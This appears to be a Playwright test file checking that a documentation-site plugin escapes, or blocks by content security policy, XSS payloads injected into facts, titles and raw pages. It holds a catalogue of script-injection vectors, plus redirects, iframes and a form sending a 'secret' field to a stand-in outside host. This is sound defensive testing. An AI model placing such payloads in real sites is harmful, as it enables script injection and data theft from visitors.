"""What stands in facts, titles and pages runs nothing and calls nobody: it is escaped, or the policy refuses it."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Opening, _Handler, serve
from tests.sites.conftest import SITES, Site

ELSEWHERE = "https://elsewhere.example"
RUN = "window.ran=(window.ran||0)+1;"
TEXT = (
    f"</title><script>{RUN}</script><img src=x onerror={RUN}><svg onload={RUN}></svg></script>"
    f"<base href={ELSEWHERE}/><meta http-equiv=refresh content='0;url={ELSEWHERE}/'>"
    f'"onmouseover="{RUN}" --><style>@import url({ELSEWHERE}/a.css)</style><iframe src={ELSEWHERE}></iframe>'
)
RAW = f"""
<script>{RUN}</script>
<script src="{ELSEWHERE}/a.js"></script>
<script>__md_scope=new URL("");{RUN}("",location)</script>
<script type="module">{RUN}</script>
<svg><script>{RUN}</script><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>
<img src="missing.png" onerror="{RUN}"><img src="{ELSEWHERE}/pixel.png" alt="">
<iframe src="{ELSEWHERE}"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<object data="{ELSEWHERE}/a.swf"></object><embed src="{ELSEWHERE}/b.swf">
<video src="{ELSEWHERE}/a.mp4" autoplay></video>
<link rel="stylesheet" href="{ELSEWHERE}/a.css"><style>@import url({ELSEWHERE}/b.css); h1 {{ color: red }}</style>
<base href="{ELSEWHERE}/">
<form action="{ELSEWHERE}/take" id="form"><input name="secret" value="1"><button id="send">Send</button></form>
<p id="styled" style="position: fixed; background: url({ELSEWHERE}/c.png)" onclick="{RUN}">Styled</p>
<a id="link" href="javascript:{RUN}">Link</a>
<details ontoggle="{RUN}" open><summary>Details</summary></details>
"""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Serve a site, in the theme that most sites have, that somebody has written all of this into."""
    root = tmp_path_factory.mktemp("attacked") / "site"
    shutil.copytree(SITES / "hamlet", root)
    site = Site(root)
    text = json.dumps(TEXT)
    settings = "\n".join(
        [
            "site_name: The hamlet",
            "theme: {name: material, font: false, features: [navigation.instant, search.highlight]}",
            "plugins: [search, tags, {explainer: {number_is_cited: off}}]",
            "use_directory_urls: false",
            "markdown_extensions: [tables]",
        ]
    )
    site.write("mkdocs.yml", settings)
    site.write(
        "data/facts.yml",
        f"sources:\n  s: {{title: {text}, publisher: {text}, author: {text}, url: 'https://s.example/', "
        f"accessed: 2026-01-05, note: {text}}}\n"
        f"actors:\n  a: {{name: {text}, side: {text}}}\n  b: {{name: B, side: {text}}}\n"
        f"figures:\n  f: {{label: {text}, value: 3, unit: {text}, claimant: a, note: {text}, counts: {text},"
        " cite: s}\n"
        f"events:\n  e: {{title: {text}, date: 2026-01-01, place: {text}, summary: {text}, kind: {text}, cite: s}}\n"
        f"notes:\n  n: {{term: {text}, text: Plain., cite: s}}\n"
        f"disputes:\n  d:\n    question: {text}\n    sides:\n"
        f"    - {{claimant: a, says: {text}, cite: s}}\n    - {{claimant: b, says: {text}, cite: s}}\n",
    )
    blocks = "".join(
        f"/// {name}\n///\n\n" for name in ("timeline", "figures", "sources", "notes", "events", "facts | f")
    )
    facts = f"[@f] [@e] [@n] [@s]\n\n{blocks}/// dispute | d\n///\n"
    front = f"---\ntitle: {text}\ndescription: {text}\nauthor: {text}\ntags: [{text}]\n---\n\n"
    site.write("docs/index.md", f"# Facts\n\n[Front](front.md) [Raw](raw.md)\n\n{facts}")
    site.write("docs/front.md", f"{front}Text.\n")
    site.write("docs/raw.md", f"# Raw\n\n{RAW}\n\n| a |\n|--:|\n| b |\n")
    (root / "docs" / "about.md").unlink()
    done = site.build()
    assert done.code == 0, done.log
    yield from serve(site.built, _Handler)


@pytest.mark.parametrize("name", ["index.html", "front.html", "raw.html", "404.html"])
def test_nothing_runs_and_no_request_leaves(open_page: Opening, attacked: str, name: str) -> None:
    reader = open_page(attacked + name, loud=True)
    page = reader.page
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.evaluate(
        """() => {
            for (const link of document.querySelectorAll("article a[href^='javascript:']")) link.click();
            for (const part of document.querySelectorAll("article [onclick], article [onmouseover]")) {
                part.dispatchEvent(new MouseEvent("click", {bubbles: true}));
                part.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
            }
        }"""
    )
    page.mouse.wheel(0, 3000)
    page.wait_for_load_state("load")
    assert page.evaluate("window.ran") is None
    assert page.url == attacked + name
    assert page.evaluate("document.baseURI") == attacked + name


def test_after_instant_navigation_neither(open_page: Opening, attacked: str) -> None:
    page = open_page(attacked + "index.html", loud=True).page
    page.evaluate("window.stayed = true")
    page.locator("article").get_by_role("link", name="Raw", exact=True).click()
    expect(page.locator("#styled")).to_be_visible()
    assert page.evaluate("window.ran") is None
    assert page.evaluate("getComputedStyle(document.querySelector('#styled')).position") == "static"


def test_a_form_sends_nothing(open_page: Opening, attacked: str) -> None:
    page = open_page(attacked + "raw.html", loud=True).page
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.locator("#send").click()
    assert page.url == attacked + "raw.html"


def test_without_the_policy_it_would_run(open_page: Opening, attacked: str, tmp_path: Path) -> None:
    """So that this tests the policy, and not an attack that never works."""
    (tmp_path / "raw.html").write_text(f"<!doctype html><title>x</title><script>{RUN}</script>", "utf-8")
    for address in serve(tmp_path, _Handler):
        assert open_page(address + "raw.html", loud=True).page.evaluate("window.ran") == 1
